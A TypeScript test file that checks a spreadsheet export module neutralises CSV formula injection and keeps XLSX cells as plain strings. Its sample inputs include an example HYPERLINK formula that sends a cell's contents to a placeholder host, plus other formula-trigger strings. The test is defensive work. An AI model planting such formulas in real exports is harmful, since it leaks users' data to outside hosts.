/**
 * [SHEETS] CSV exports neutralize text a spreadsheet program would run as a formula, and the import reads it back
 * as the text it was; XLSX string cells are never formulas.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Table } from '@hall/core';
import { renderCsv, renderXlsx } from '../../src/records/sheets.ts';
import { readSheetFile } from '../../src/records/sheet-import.ts';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Xem")', '+84 912 345 678', '-2+3', '@SUM(1,2)', '\tTab', '=1+1'];
const table: Table = {
  name: 'questions',
  title: 'Câu hỏi chất vấn',
  columns: ['Mã', 'Nội dung', 'Số'],
  rows: [...HOSTILE.map((text, i) => [`q${i}`, text, -i]), ['q-plain', "Đường liên xã — 'đúng hạn'?", 7]],
};

describe('[SHEETS] spreadsheet exports', () => {
  it('[SHEETS-1] a CSV cell that starts like a formula goes out behind an apostrophe; numbers and plain text are untouched; the import takes the apostrophe off', async () => {
    const csv = await renderCsv(table);
    const lines = csv.toString('utf8').replace(/^\ufeff/, '').trim().split('\n');
    // No text cell opens with a formula character (a number cell may be negative: a spreadsheet reads it as a number).
    for (const line of lines.slice(1)) expect(line.split(',')[1]!.replace(/^"/, ''), line).not.toMatch(/^[=+\-@\t\r]/);
    expect(lines.at(-1)).toBe(`q-plain,Đường liên xã — 'đúng hạn'?,7`);
    expect(lines[2]).toBe(`q1,'+84 912 345 678,-1`);

    const read = await readSheetFile('csv', csv, 100);
    expect(read.rows.slice(1).map((r) => r.cells[1])).toEqual([...HOSTILE.map((t) => t.trim()), "Đường liên xã — 'đúng hạn'?"]);
  });

  it('[SHEETS-2] XLSX keeps the same text as string cells, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx([table], 'Thử')) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    for (let r = 2; r <= HOSTILE.length + 1; r++) {
      const cell = sheet.getRow(r).getCell(2);
      expect(cell.type, `row ${r}`).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(HOSTILE[r - 2]);
    }
  });
});
